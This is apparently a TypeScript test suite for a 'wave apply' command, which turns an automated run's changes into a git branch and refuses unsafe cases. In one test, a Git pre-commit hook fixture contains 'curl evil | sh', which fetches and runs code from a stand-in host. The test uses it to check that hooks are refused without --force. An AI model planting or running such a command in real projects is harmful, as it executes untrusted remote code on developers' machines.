// `wave apply` (the service): the run's change becomes a new branch whose diff from the base is exactly the
// change, with HEAD, the index and the working tree untouched; each refusal (existing branch, CI workflow
// without --force, unclean working tree, no changes, a bad branch name) changes nothing.
import assert from 'node:assert/strict';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import fs from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, it } from 'node:test';
import { applyRunChanges } from '../../../src/engine/changes-service.js';
import { startRun } from '../../../src/engine/run-service.js';
import { ExitCode, WaveError } from '../../../src/errors.js';
import type { Sandbox, SandboxSpec } from '../../../src/sandbox/types.js';
import { defaultStatePath, Store } from '../../../src/state/index.js';
import { forgetRun } from '../../../src/workspace/git/store.js';
import { checkedOut, createGitProject, fingerprint, gitIn } from '../../support/git-project.js';

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

/** Runs one worktree step that applies `edit` to its tree; returns the project and the run id. */
async function changedRun(edit: (src: string) => Promise<void>): Promise<{ dir: string; runId: string }> {
  const dir = createGitProject('wave-apply-', { 'a.txt': 'one\n', 'bin.dat': '\u0000\u0001' });
  dirs.push(dir);
  writeFileSync(
    path.join(dir, '.wave', 'pipelines', 'p.yaml'),
    "kind: WavePipeline\nmetadata: {name: p}\nsteps:\n  - {id: impl, type: command, script: 'true', " +
      'workspace: {type: worktree}}\n',
  );
  const sandbox: Sandbox = {
    kind: 'host',
    async run(spec: SandboxSpec) {
      await edit(spec.mounts.src);
      return { status: 'exited', exitCode: 0, durationMs: 1, containerId: 'fake', stdoutTail: '', stderrTail: '' };
    },
  };
  const outcome = await startRun(
    { projectDir: dir, manifestPath: path.join(dir, 'wave.yaml'), sinks: [], sandbox },
    'p',
    '',
    {},
  );
  assert.equal(outcome.exitCode, 0, JSON.stringify(outcome.summary));
  return { dir, runId: outcome.runId };
}

async function apply(dir: string, runId: string, opts: Parameters<typeof applyRunChanges>[3] = {}) {
  const store = new Store(defaultStatePath(dir));
  try {
    return await applyRunChanges(dir, store, runId, opts);
  } finally {
    store.close();
  }
}

async function refusal(work: Promise<unknown>): Promise<WaveError> {
  const err = await work.then(
    () => undefined,
    (e: unknown) => e,
  );
  assert.ok(err instanceof WaveError, `expected a WaveError, got ${String(err)}`);
  return err;
}

describe('wave apply', () => {
  it('creates wave/<run> whose diff is exactly the change; HEAD, index and working tree stay as they were', async () => {
    const { dir, runId } = await changedRun(async (src) => {
      await fs.writeFile(path.join(src, 'a.txt'), 'two\n');
      await fs.writeFile(path.join(src, 'bin.dat'), Buffer.from([0, 2, 255]));
    });
    writeFileSync(path.join(dir, 'a.txt'), 'the user is editing\n');
    const before = checkedOut(dir);
    const files = fingerprint(dir);

    const checked = await apply(dir, runId, { check: true });
    assert.equal(checked.applied, false);
    assert.equal(gitIn(dir, 'branch', '--list', `wave/${runId}`), '', '--check creates nothing');

    const result = await apply(dir, runId);
    assert.equal(result.branch, `wave/${runId}`);
    const head = gitIn(dir, 'rev-parse', 'HEAD').trim();
    assert.equal(gitIn(dir, 'rev-parse', `wave/${runId}^`).trim(), head, 'the branch starts at the run base');
    assert.deepEqual(gitIn(dir, 'diff', '--name-status', head, `wave/${runId}`).trim().split('\n'), [
      'M\ta.txt',
      'M\tbin.dat',
    ]);
    assert.equal(gitIn(dir, 'show', `wave/${runId}:a.txt`), 'two\n');
    assert.equal(checkedOut(dir), before, 'HEAD, index and working tree unchanged');
    assert.equal(readFileSync(path.join(dir, 'a.txt'), 'utf8'), 'the user is editing\n');
    assert.notEqual(fingerprint(dir), files, 'only .git gained the branch');

    const again = await refusal(apply(dir, runId));
    assert.equal(again.exitCode, ExitCode.refused);
    assert.match(again.message, /branch wave\/.* exists already/);

    const bad = await refusal(apply(dir, runId, { branch: 'no..dots' }));
    assert.equal(bad.exitCode, ExitCode.invalidInput);
  });

  it('refuses CI workflows and hooks without --force, naming each; --force lets them through', async () => {
    const { dir, runId } = await changedRun(async (src) => {
      await fs.mkdir(path.join(src, '.github', 'workflows'), { recursive: true });
      await fs.writeFile(path.join(src, '.github', 'workflows', 'ci.yml'), 'on: push\n');
      await fs.mkdir(path.join(src, '.husky'), { recursive: true });
      await fs.writeFile(path.join(src, '.husky', 'pre-commit'), 'curl evil | sh\n');
    });
    const err = await refusal(apply(dir, runId));
    assert.equal(err.exitCode, ExitCode.refused);
    assert.deepEqual(err.details, ['.github/workflows/ci.yml: a CI workflow', '.husky/pre-commit: a Git hook']);
    assert.equal(gitIn(dir, 'branch', '--list', 'wave/*'), '');
    const forced = await apply(dir, runId, { force: true, branch: 'reviewed' });
    assert.equal(forced.forced.length, 2);
    assert.equal(gitIn(dir, 'show', 'reviewed:.husky/pre-commit'), 'curl evil | sh\n');
  });

  it('--to-working-tree applies only to a clean tree', async () => {
    const { dir, runId } = await changedRun(async (src) => fs.writeFile(path.join(src, 'a.txt'), 'two\n'));
    writeFileSync(path.join(dir, 'a.txt'), 'dirty\n');
    const err = await refusal(apply(dir, runId, { toWorkingTree: true }));
    assert.equal(err.exitCode, ExitCode.refused);
    assert.deepEqual(err.details, ['a.txt']);
    assert.equal(readFileSync(path.join(dir, 'a.txt'), 'utf8'), 'dirty\n');

    gitIn(dir, 'checkout', '--', 'a.txt');
    const done = await apply(dir, runId, { toWorkingTree: true });
    assert.equal(done.applied, true);
    assert.equal(readFileSync(path.join(dir, 'a.txt'), 'utf8'), 'two\n');
    assert.equal(gitIn(dir, 'branch', '--list', 'wave/*'), '', 'no branch with --to-working-tree');
  });

  it('a run without changes, or an unknown step, is a usage error', async () => {
    const { dir, runId } = await changedRun(async () => undefined);
    const err = await refusal(apply(dir, runId, { step: 'nope' }));
    assert.equal(err.exitCode, ExitCode.invalidInput);
    assert.match(err.message, /step 'nope' of run .* recorded no changes/);
  });

  it("wave clean's forgetRun removes the run's refs from .wave/git", async () => {
    const { dir, runId } = await changedRun(async (src) => fs.writeFile(path.join(src, 'a.txt'), 'two\n'));
    const refs = () => gitIn(dir, '--git-dir=.wave/git', 'for-each-ref', '--format=%(refname)', `refs/wave/${runId}/`);
    assert.match(refs(), new RegExp(`^refs/wave/${runId}/steps/impl$`, 'm'));
    await forgetRun(dir, runId);
    assert.equal(refs(), '');
  });
});
